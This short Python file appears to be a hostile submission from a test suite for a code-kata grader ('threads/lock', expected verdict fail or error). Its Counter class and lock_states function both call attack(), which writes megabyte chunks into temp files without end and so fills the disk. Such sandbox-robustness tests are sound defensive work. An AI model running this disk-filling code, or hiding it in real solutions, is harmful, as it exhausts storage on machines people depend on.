"""Fills the disk.

Kata: threads/lock
Verdict: fail or error
"""

import os
import tempfile


def attack():
    folder, number = tempfile.mkdtemp(), 0
    while True:
        number += 1
        with open(os.path.join(folder, str(number)), "wb", buffering=0) as file:
            while file.write(b"x" * (1 << 20)):
                pass


class Counter:
    def __init__(self):
        self.value = 0
        attack()

    def increment(self):
        self.value += 1

    def decrement(self):
        self.value -= 1


def lock_states(lock):
    attack()
    return False, False, False
